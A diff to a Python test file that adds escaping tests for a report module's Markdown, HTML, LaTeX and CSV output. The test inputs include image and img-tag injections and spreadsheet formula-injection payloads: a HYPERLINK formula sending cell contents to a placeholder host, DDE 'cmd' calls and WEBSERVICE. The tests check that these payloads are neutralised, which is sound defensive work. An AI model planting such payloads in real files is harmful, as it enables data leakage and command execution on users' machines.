@@ -3,7 +3,9 @@
 import csv as reader
 import io
 import math
+import re
 import statistics
+from html import unescape
 from pathlib import Path
 from typing import Literal
 
@@ -11,10 +13,20 @@ import numpy as np
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from rich.console import Console
 
 from framework.errors import ConfigError
-from framework.reports.table import WIDTH, aggregate, format_number, markdown, results_table, write_csv
+from framework.reports.table import (
+    WIDTH,
+    aggregate,
+    format_number,
+    html,
+    latex,
+    markdown,
+    results_table,
+    write_csv,
+)
 
 COLUMNS = {"method": "method", "log_likelihood": "log-likelihood nats", "maad_deg": "MAAD °"}
 ROWS = [
@@ -163,7 +175,61 @@ def test_names_are_never_read_as_markup() -> None:
     assert "[bold]ensemble[/bold] | [temperature]" in text
     assert "[red]method" in text
     assert "sweep [x]" in text
-    assert r"[bold]ensemble[/bold] \| [temperature]" in markdown(rows, columns)
+    assert r"\[bold\]ensemble\[/bold\] \| \[temperature\]" in markdown(rows, columns)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "![a](http://127.0.0.2/a.png)",
+        "<img src='http://127.0.0.2'>",
+        "a\\| b",
+        "`|`",
+        "[1](2)",
+        "a\r\n| b |",
+        "*a*",
+    ],
+)
+def test_a_name_is_one_cell_of_plain_text_in_markdown_and_html(name: str) -> None:
+    """The pages contain no image, link or further cell, as a parser of Markdown reads them."""
+    columns = {"method": name, "log_likelihood": "log-likelihood"}
+    rows = [{"method": name, "log_likelihood": 1.0}]
+    parser = MarkdownIt("commonmark").enable("table")  # rich installs this package
+    for page in (parser.render(markdown(rows, columns)), html(rows, columns)):
+        tags = [tag for tag in re.findall(r"<(\w+)", page) if tag not in ("table", "thead", "tbody", "tr")]
+        assert tags == ["th", "th", "td", "td"]
+        cells = [unescape(cell) for cell in re.findall(r"<t[hd][^>]*>([^<]*)</t", page)]
+        assert [" ".join(cell.split()) for cell in cells[::2]] == [" ".join(name.split())] * 2
+
+
+@pytest.mark.parametrize("name", ["[2cm]", "*best", "[", "a[1]"])
+def test_the_first_cell_of_latex_is_no_argument_of_the_line_before(name: str) -> None:
+    line = next(line for line in latex([{"method": name}], {"method": "m"}).splitlines() if name in line)
+    assert line.startswith("{}" if name != "a[1]" else "a")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://127.0.0.2/?"&A1,"a")',
+    "=cmd|' /C calc'!A0",
+    "+WEBSERVICE(A1)",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=A(1)",
+    "a;=cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_name_is_no_formula_of_a_spreadsheet(formula: str, tmp_path: Path) -> None:
+    """No cell begins with a sign of a formula, whether a comma, a semicolon or a tab separates the cells."""
+    path = tmp_path / "one.csv"
+    write_csv([{"method": formula, formula: -0.5, "b": "-ve", "c": "+ve", "d": "a-b (c)"}], None, path)
+    text = path.read_text()
+    header, row = reader.reader(text.splitlines())
+    assert row[1:] == ["-0.5", "-ve", "+ve", "a-b (c)"]
+    for name in (row[0], header[1]):
+        assert name.replace("'", "") == formula.replace("'", "") and name != formula
+        assert not any(part.strip()[:1] in "=+-@" for part in re.split(r"[;\t]", name) if part.strip())
 
 
 @settings(deadline=None, max_examples=60)
